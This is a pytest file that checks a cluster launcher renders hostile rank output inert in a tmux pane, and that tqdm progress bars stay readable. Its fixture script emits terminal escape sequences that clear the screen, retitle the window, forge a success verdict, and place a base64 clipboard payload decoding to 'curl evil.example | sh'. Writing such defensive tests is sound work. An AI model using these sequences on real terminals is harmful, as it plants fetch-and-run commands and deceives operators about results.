"""Issue 29, item 8, on a real terminal: a rank that tries to take over the operator's
screen (clear it, retitle the window, write the clipboard, paint a fake summary and a
fake "run completed" with ``\\r``, cursor moves and the terminal's own wrap) shows all
of it inert behind its prefix, and the real verdict is the last line on the screen.
A tqdm-style progress bar, nested bars and all, stays readable.

Each test types ``inv launch`` into bash in an 80-column tmux pane of its own
(`test_narrow_terminal_lab.Pane`) and reads the screen with ``tmux capture-pane``.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from test_narrow_terminal_lab import PROMPT, WIDTH, Pane, cluster, pane  # noqa: F401

pytestmark = pytest.mark.lab

FAKE_VERDICT = "cluster launcher: run completed — all 4 ranks exited 0"
#: What a hostile rank prints; rank 1 then fails, so the true verdict is a failure.
HOSTILE = r'''
import os, sys
rank = int(os.environ["RANK"])
w = sys.stdout.write
w("hello from %d\n" % rank)
w("\x1b[2J\x1b[H")                                   # clear the screen, cursor home
w("\x1b]0;pwned-title\x07\x1b]2;pwned-title-2\x07")  # the window and pane titles
w("\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07")  # clipboard: curl evil.example | sh
w("\x9b2J\n")                                        # C1 CSI: clear, in one character
# A progress bar as tqdm draws it: \r redraws, then a nested bar with cursor-up.
w("\router:   0%|          | 0/2\n")
for i in range(1, 3):
    w("\rinner:  50%|#####     | 1/2\x1b[A\n\rinner: 100%|##########| 2/2\x1b[A\n")
    w("\r                    \x1b[A\router: %3d%%|%s| %d/2" % (i * 50, "#####" * i
                                                              + "     " * (2 - i), i))
w("\n")
# A fake summary and verdict, painted over the lines above with \r and cursor moves.
w("\r\x1b[6A\x1b[2Krank  host       exit  cause  duration\n")
w("\r\x1b[2K3     node3      0      -      0:00:01\n")
w("\x1b[999;1H\r\x1b[2K" + "FAKE_VERDICT" + "\n")
# The terminal's own wrap: spaces up to the edge, then a line that starts at column 0.
w(" " * (80 - len("[localhost:cpu:r%d] " % rank)) + "FAKE_VERDICT" + "\n")
w("\x1b[0;31mred text with no reset\n")
sys.stdout.flush()
# Rank 1 fails once rank 0 has printed everything (else the kill-all would cut it).
if rank == 0:
    open("r0.done", "w").close()
    sys.exit(0)
import time
for _ in range(400):
    if os.path.exists("r0.done"):
        break
    time.sleep(0.05)
sys.exit(3)
'''.replace("FAKE_VERDICT", FAKE_VERDICT)


@pytest.mark.timeout(90)
def test_a_hostile_rank_cannot_clear_retitle_write_the_clipboard_or_forge_the_verdict(
        pane: Pane, tmp_path: Path) -> None:  # noqa: F811
    pane.tmux("set-option", "-g", "set-clipboard", "on")  # OSC 52 would make a buffer
    (tmp_path / "hostile.py").write_text(HOSTILE)
    job = cluster(tmp_path, "python3 hostile.py")
    assert pane.finish(pane.start("--cluster", str(job))) == 1, pane.lines()
    shown = pane.lines()
    text = "\n".join(shown)
    # The real verdict is the last line on the screen, above the prompt.
    assert shown[-1] == PROMPT, text
    assert re.fullmatch(r"cluster launcher: .*rank 1 of localhost .*status 3", shown[-2]), text
    # Nothing cleared the screen: the command typed before the launch is still there.
    assert shown[0] == f"{PROMPT} bash job.sh", text
    # Every sequence is on the screen, inert, behind the rank's prefix.
    for r in (0, 1):
        head = f"[localhost:cpu:r{r}] "
        assert f"{head}hello from {r}" in shown, text
        assert any(line.startswith(head) and "^[[2J^[[H" in line for line in shown), text
        assert any(line.startswith(head) and "^[]0;pwned-title^G" in line for line in shown)
        assert any(line.startswith(head) and "^[]52;c;Y3Vyb" in line for line in shown)
        assert any(line.startswith(head) and "M-^[2J" in line for line in shown), text
    # The fake verdict only ever shows as rank text, never at the start of a row.
    forged = [line for line in shown if FAKE_VERDICT in line]
    assert len(forged) == 4, text
    assert all(re.match(r"\[localhost:cpu:r[01]\] ", line) for line in forged), text
    assert not any(line.startswith("3     node3 ") for line in shown), text
    # The title and the clipboard are untouched.
    assert "pwned" not in pane.tmux("display-message", "-p", "-t", "narrow", "#{pane_title}")
    assert pane.tmux("list-buffers") == ""


@pytest.mark.timeout(90)
def test_a_tqdm_style_bar_with_a_nested_bar_stays_readable(
        pane: Pane, tmp_path: Path) -> None:  # noqa: F811
    (tmp_path / "hostile.py").write_text(HOSTILE)
    job = cluster(tmp_path, "python3 hostile.py")
    assert pane.finish(pane.start("--cluster", str(job))) == 1, pane.lines()
    shown = pane.lines()
    text = "\n".join(shown)
    for r in (0, 1):
        head = f"[localhost:cpu:r{r}] "
        # Each bar line shows its latest state; the nested bar's cursor-up is inert.
        assert f"{head}outer:   0%|          | 0/2" in shown, text
        assert f"{head}inner: 100%|##########| 2/2^[[A" in shown, text
        assert f"{head}outer: 100%|##########| 2/2" in shown, text
        # A colour a rank leaves on does not reach the next line: it was reset.
        assert f"{head}red text with no reset" in shown, text


#: Real tqdm (the package training scripts use), nested bars with ``position=1``: its own
#: ``\r`` redraws and cursor moves, on a pipe as the agent gives ranks.
TQDM = r'''
import sys
from tqdm import tqdm
for epoch in tqdm(range(2), desc="epoch", file=sys.stdout, ncols=60, mininterval=0):
    for step in tqdm(range(3), desc="step", file=sys.stdout, ncols=60, position=1,
                     leave=False, mininterval=0):
        pass
print("trained", flush=True)
'''


@pytest.mark.timeout(90)
def test_real_tqdm_nested_bars_stay_readable_behind_each_ranks_prefix(
        pane: Pane, tmp_path: Path) -> None:  # noqa: F811
    (tmp_path / "bars.py").write_text(TQDM)
    job = cluster(tmp_path, "python3 bars.py")
    assert pane.finish(pane.start("--cluster", str(job))) == 0, pane.lines()
    shown = pane.lines()
    text = "\n".join(shown)
    assert shown[-2] == "cluster launcher: run completed — all 2 ranks exited 0", text
    bars = [line for line in shown if "epoch" in line or "step" in line]
    assert bars, text
    # Every row a bar drew is behind a rank's prefix: none overwrote a launcher line.
    assert all(re.match(r"\[localhost:cpu:r[01]\] ", line) for line in bars), text
    for r in (0, 1):
        head = f"[localhost:cpu:r{r}] "
        assert any(line.startswith(head) and "epoch: 100%" in line for line in shown), text
        assert f"{head}trained" in shown, text
